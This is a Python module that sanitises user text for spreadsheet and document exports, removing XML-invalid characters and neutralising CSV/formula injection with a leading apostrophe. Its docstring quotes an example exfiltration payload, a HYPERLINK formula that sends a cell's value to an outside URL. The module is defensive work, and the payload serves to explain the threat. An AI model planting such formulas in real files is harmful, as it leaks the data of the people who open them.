"""Writing user text into office files (xlsx, docx, SVG): every export goes through here.

An opinion, an answer or a name can hold anything a phone or a paste can type. Two things go
wrong when such text is written into an office file as it is: characters XML 1.0 cannot hold
(``\\x00``, ``\\x0b``, lone surrogates …) make openpyxl and python-docx refuse the whole file,
and text starting with ``=`` becomes a live formula in Excel or WPS (CSV/formula injection,
e.g. ``=HYPERLINK("http://…/?leak="&B2,"点击查看详情")``). ``xml_text`` and ``safe_cell`` are
the one place where both are handled; ``tests/test_export_safety.py`` checks every export.
"""

import re
from collections.abc import Iterable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

# Everything XML 1.0 allows is \t \n \r, U+0020–U+D7FF, U+E000–U+FFFD and U+10000–U+10FFFF;
# the complement includes C0 controls, U+FFFE/U+FFFF and lone surrogates (U+D800–U+DFFF).
_NOT_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")

# OWASP's CSV-injection list, plus the full-width forms that input methods type and that NFKC
# (or a spreadsheet's own autocorrect on editing) turns into the ASCII ones.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Texts openpyxl would otherwise write as error values rather than as strings.
_ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
XLSX_CELL_MAX = 32767  # Excel refuses to open a file with a longer cell
_TYPED = (int, float, Decimal, date, datetime, time, timedelta)  # bool is an int


def xml_text(value: object) -> str:
    """``value`` as text with the characters XML 1.0 cannot hold removed (None gives "")."""
    if value is None:
        return ""
    return _NOT_XML.sub("", value if isinstance(value, str) else str(value))


def safe_cell(value: object) -> object:
    """A value for an xlsx cell: user text always as a string cell, never a formula.

    Numbers, dates and times the code itself produces (and None) stay typed. Any other value
    is text: characters XML cannot hold are removed, and text starting with ``= + - @``, a tab,
    a carriage return (or their full-width forms) gets a leading apostrophe, as OWASP advises.
    The apostrophe, rather than only the string cell type, because the type alone protects only
    until someone edits the cell, copies it into another sheet or saves the sheet as CSV, after
    which Excel and WPS evaluate it; an apostrophe in the text survives all three, and readers
    see it as the usual Excel mark for "this is text". Over-long text is cut at Excel's limit.
    """
    if value is None or isinstance(value, _TYPED):
        return value
    text = xml_text(value)
    if text.startswith(FORMULA_PREFIXES) or text in _ERROR_CODES:
        text = "'" + text
    if len(text) > XLSX_CELL_MAX:
        text = text[: XLSX_CELL_MAX - 1] + "…"
    return text


def append_row(ws: Any, values: Iterable[object]) -> None:
    """``ws.append`` for any worksheet (write-only too), each value through ``safe_cell``."""
    ws.append([safe_cell(v) for v in values])


def unquote_cell(text: str) -> str:
    """The inverse of safe_cell's apostrophe, for imports: a file this product exported (the
    org tree, a declaration template) reads back as the text that was written."""
    if text.startswith("'"):
        rest = text[1:]
        if rest.startswith(FORMULA_PREFIXES) or rest in _ERROR_CODES:
            return rest
    return text
